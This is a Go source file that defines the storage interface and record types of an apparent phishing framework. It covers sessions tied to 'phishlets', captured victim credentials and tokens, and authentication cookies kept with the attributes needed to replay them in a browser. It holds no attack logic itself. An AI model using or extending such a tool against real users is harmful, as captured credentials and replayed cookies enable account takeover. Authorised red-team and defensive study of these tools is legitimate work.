package storage

import (
	"context"
)

// Storage is the persistence backend for captured sessions. Two
// implementations exist: the embedded BuntDB store in the database package
// and the Redis store in this package for distributed deployments.
type Storage interface {
	CreateSession(ctx context.Context, sid string, phishlet string, landingURL string, userAgent string, remoteAddr string) error
	GetSession(ctx context.Context, sid string) (*Session, error)
	ListSessions(ctx context.Context) ([]*Session, error)
	DeleteSession(ctx context.Context, sid string) error

	UpdateCredentials(ctx context.Context, sid string, creds map[string]string) error
	UpdateTokens(ctx context.Context, sid string, tokens map[string]string) error
	UpdateCookieTokens(ctx context.Context, sid string, tokens map[string]map[string]*CookieToken) error
	UpdateStatus(ctx context.Context, sid string, status string) error

	Cleanup(ctx context.Context) error
	Close() error
}

// Session is the durable record of one victim's interaction sequence. The
// JSON field names are the interchange shape consumed by the dashboard API.
type Session struct {
	Id           int                                `json:"id"`
	SessionId    string                             `json:"session_id"`
	Phishlet     string                             `json:"phishlet"`
	LandingURL   string                             `json:"landing_url"`
	Credentials  map[string]string                  `json:"credentials"`
	Tokens       map[string]string                  `json:"tokens"`
	CookieTokens map[string]map[string]*CookieToken `json:"cookies"`
	Status       string                             `json:"status"`
	UserAgent    string                             `json:"useragent"`
	RemoteAddr   string                             `json:"remote_addr"`
	CreateTime   int64                              `json:"create_time"`
	UpdateTime   int64                              `json:"update_time"`
}

// CookieToken is one captured authentication cookie with the attributes
// needed to replay it in a browser.
type CookieToken struct {
	Name           string `json:"name"`
	Value          string `json:"value"`
	Domain         string `json:"domain"`
	Path           string `json:"path"`
	HttpOnly       bool   `json:"http_only"`
	Secure         bool   `json:"secure"`
	ExpirationDate int64  `json:"expiration_date"`
	Session        bool   `json:"session"`
}
